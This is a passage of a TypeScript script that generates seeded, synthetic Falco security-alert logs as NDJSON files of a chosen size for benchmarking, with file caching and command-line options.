      return c ? c.pod : null;
    case 'k8s.ns.name':
      return c ? c.ns : null;
    default:
      return undefined;
  }
}

function uuid(rng: Rng): string {
  return `${rng.hex(8)}-${rng.hex(4)}-4${rng.hex(3)}-${'89ab'[rng.int(4)]}${rng.hex(3)}-${rng.hex(12)}`;
}

function pad(n: number, w: number): string {
  return String(n).padStart(w, '0');
}

export interface GenerateStats {
  bytes: number;
  lines: number;
  rules: number;
  incidentsApprox: number;
}

/**
 * Scale of the cluster's containers and active cloud principals (1 = 1,500 containers, 260
 * principals): a smaller world gives fewer incidents (rule + entity) for the same alerts.
 */
export const DEFAULT_ENTITIES = 1;

/** Writes `sizeMB` * 10^6 bytes (rounded up to a whole line) of NDJSON to `out`. */
export async function generate(sizeMB: number, out: string, entities = DEFAULT_ENTITIES): Promise<GenerateStats> {
  const target = Math.round(sizeMB * 1e6);
  const rng = new Rng(SEED);
  const world = buildWorld(rng, entities);
  const rules = loadRules(rng).map(compile);
  const ruleZipf = new Zipf(rules.length, 1.25);
  const containerZipf = new Zipf(world.containers.length, 1.45);
  const principalZipf = new Zipf(Math.max(1, Math.round(260 * entities)), 1.4);
  const ipZipf = new Zipf(world.ips.length, 1.0);
  const hostProcZipf = new Zipf(world.hostProcs.length, 1.0);


  const distinct = new Set<string>();
  const usedRules = new Set<string>();
  mkdirSync(dirname(out), { recursive: true });
  const tmp = `${out}.tmp`;
  const ws = createWriteStream(tmp);
  const write = (s: string) =>
    new Promise<void>((res, rej) => {
      const ok = ws.write(s, (e) => (e ? rej(e) : undefined));
      if (ok) res();
      else ws.once('drain', res);
    });

  let bytes = 0;
  let lines = 0;
  let batch = '';
  while (bytes < target) {
    // Time: spread over the day by bytes written (so every size spans one day), strictly
    // increasing, with sub-millisecond jitter (a line is >= 1e-4 of a day's share of bytes apart).
    const dayNs = Math.floor((bytes / target) * DAY_S * 1e9) + rng.int(1_000_000);
    const tS = DAY_START_S + Math.floor(dayNs / 1e9);
    const tNs = dayNs % 1e9;
    const d = new Date(tS * 1000);
    const hms = `${pad(d.getUTCHours(), 2)}:${pad(d.getUTCMinutes(), 2)}:${pad(d.getUTCSeconds(), 2)}.${pad(tNs, 9)}`;
    const timeIso = `${d.toISOString().slice(0, 19)}.${pad(tNs, 9)}Z`;

    const t = rules[ruleZipf.sample(rng)]!;
    const src = t.rule.source;
    let container: Container | null = null;
    let proc = '';
    let principal = '';
    let hostname: string;
    let awsIndex = 1;
    if (src === 'syscall') {
      // Most syscall alerts come from containers; some from host processes.
      if (rng.chance(0.88)) {
        // Each rule has its own ordering of "noisy" containers, so the top containers differ per rule.
        const k = containerZipf.sample(rng);
        container = world.containers[(k * 7919 + hashStr(t.rule.rule)) % world.containers.length]!;
        proc = container.procs[rng.int(container.procs.length)]!;
        if (/shell/i.test(t.rule.rule)) proc = rng.pick(SHELLS);
        hostname = container.host;
      } else {
        proc = world.hostProcs[hostProcZipf.sample(rng)]!;
        hostname = world.hosts[rng.int(world.hosts.length)]!;
      }
    } else {
      const k = principalZipf.sample(rng);
      switch (src) {
        case 'k8s_audit':
          principal = world.k8sUsers[k % world.k8sUsers.length]!;
          break;
        case 'gcp_auditlog':
          principal = world.gcpPrincipals[k % world.gcpPrincipals.length]!;
          break;
        case 'okta':
          principal = world.oktaActors[k % world.oktaActors.length]!;
          break;
        case 'github':
          principal = world.githubUsers[k % world.githubUsers.length]!;
          break;
        default:
          awsIndex = k % world.awsPrincipals.length;
          principal = world.awsPrincipals[awsIndex]!.user;
      }
      // Plugin alerts are written by the Falco instance that runs the plugin.
      hostname = world.hosts[k % 3]!;
    }
    const aws = src === 'aws_cloudtrail' ? world.awsPrincipals[awsIndex]! : world.awsPrincipals[1]!;
    const ctx: Ctx = {
      rng,
      rule: t.rule,
      container,
      hostname,
      proc,
      user: container ? (rng.chance(0.6) ? 'root' : rng.pick(USERS)) : rng.pick(USERS),
      principal,
      aws,
      ip: world.ips[ipZipf.sample(rng)]!,
      timeIso,
    };

    // Values for each field of the template (one value per distinct field).
    const values = new Map<string, Value>();
    for (const f of t.fields) {
      if (values.has(f)) continue;
      const cv = containerField(f, container);
      values.set(f, cv !== undefined ? cv : valueFor(f, ctx));
    }
    if (src === 'syscall') for (const f of CONTAINER_EXTRA_FIELDS) values.set(f, containerField(f, container)!);
    let msg = t.parts[0]!;
    for (let i = 0; i < t.fields.length; i++) {
      const v = values.get(t.fields[i]!);
      msg += (v === null || v === '' ? '<NA>' : String(v)) + t.parts[i + 1]!;
    }
    const evtTime = `${tS}${pad(tNs, 9)}`;
    let fieldsJson = `{"evt.time":${evtTime}`;
    for (const key of [...values.keys()].sort()) {
      fieldsJson += `,${JSON.stringify(key)}:${JSON.stringify(values.get(key))}`;
    }
    fieldsJson += '}';
    const line =
      `{"hostname":${JSON.stringify(hostname)},"output":${JSON.stringify(`${hms}: ${t.priorityWord} ${msg}`)}` +
      `,"output_fields":${fieldsJson}${t.prefix},"source":${JSON.stringify(src)}` +
      `,"tags":${t.tagsJson},"time":"${timeIso}","uuid":"${uuid(rng)}"}\n`;

    batch += line;
    bytes += Buffer.byteLength(line);
    lines++;
    usedRules.add(t.rule.rule);
    distinct.add(`${t.rule.rule}\u0000${container ? container.id : principal || proc}`);
    if (batch.length >= 1 << 20) {
      await write(batch);
      batch = '';
    }
  }
  if (batch) await write(batch);
  await new Promise<void>((res, rej) => ws.end((e?: Error | null) => (e ? rej(e) : res())));
  renameSync(tmp, out);
  return { bytes, lines, rules: usedRules.size, incidentsApprox: distinct.size };
}

function hashStr(s: string): number {
  let h = 2166136261;
  for (let i = 0; i < s.length; i++) h = Math.imul(h ^ s.charCodeAt(i), 16777619);
  return h >>> 0;
}

export function defaultPath(sizeMB: number, entities = DEFAULT_ENTITIES): string {
  const world = entities === DEFAULT_ENTITIES ? '' : `-e${entities}`;
  return resolve(ROOT, 'bench-data', `falco-${sizeMB}MB${world}.ndjson`);
}

/** Generates the file unless it already exists from this generator version. Returns its path. */
export async function ensureFile(sizeMB: number, out = defaultPath(sizeMB), force = false, entities = DEFAULT_ENTITIES): Promise<string> {
  const meta = `${out}.meta.json`;
  const want = { version: GENERATOR_VERSION, seed: SEED, sizeMB, entities };
  if (!force && existsSync(out) && existsSync(meta)) {
    try {
      const have = JSON.parse(readFileSync(meta, 'utf8'));
      // Files cached before --entities existed were made with the default world.
      if (have.version === want.version && have.seed === want.seed && have.sizeMB === want.sizeMB && (have.entities ?? DEFAULT_ENTITIES) === entities) {
        console.log(`generate: ${out} is cached (${have.lines} alerts, ${(have.bytes / 1e6).toFixed(1)} MB)`);
        return out;
      }
    } catch {
      // fall through and regenerate
    }
  }
  const t0 = performance.now();
  const stats = await generate(sizeMB, out, entities);
  writeFileSync(meta, JSON.stringify({ ...want, ...stats }, null, 2) + '\n');
  console.log(
    `generate: wrote ${out}: ${stats.lines} alerts, ${(stats.bytes / 1e6).toFixed(1)} MB, ` +
      `${Math.round(stats.bytes / stats.lines)} B/line, ${stats.rules} rules, ~${stats.incidentsApprox} incidents ` +
      `in ${((performance.now() - t0) / 1000).toFixed(1)} s`,
  );
  return out;
}

function parseArgs(argv: string[]): { sizes: number[]; out?: string; force: boolean; entities: number } {
  const sizes: number[] = [];
  let out: string | undefined;
  let force = false;
  let entities = DEFAULT_ENTITIES;
  for (let i = 0; i < argv.length; i++) {
    const a = argv[i]!;
    if (a === '--size') sizes.push(Number(argv[++i]));
    else if (a.startsWith('--size=')) sizes.push(Number(a.slice(7)));
    else if (a === '--out') out = argv[++i];
    else if (a.startsWith('--out=')) out = a.slice(6);
    else if (a === '--force') force = true;
    else if (a === '--entities') entities = Number(argv[++i]);
    else throw new Error(`generate: unknown argument ${a} (use --size MB [--entities SCALE] [--out PATH] [--force])`);
  }
  if (sizes.length === 0) sizes.push(10);
  if (sizes.some((s) => !(s > 0))) throw new Error('generate: --size must be a positive number of MB');
  if (out && sizes.length > 1) throw new Error('generate: --out takes one --size');
  if (!(entities > 0)) throw new Error('generate: --entities must be a positive number');
  return { sizes, out, force, entities };
}

if (process.argv[1] && resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  const { sizes, out, force, entities } = parseArgs(process.argv.slice(2));
  for (const size of sizes) await ensureFile(size, out ? resolve(out) : defaultPath(size, entities), force, entities);
}
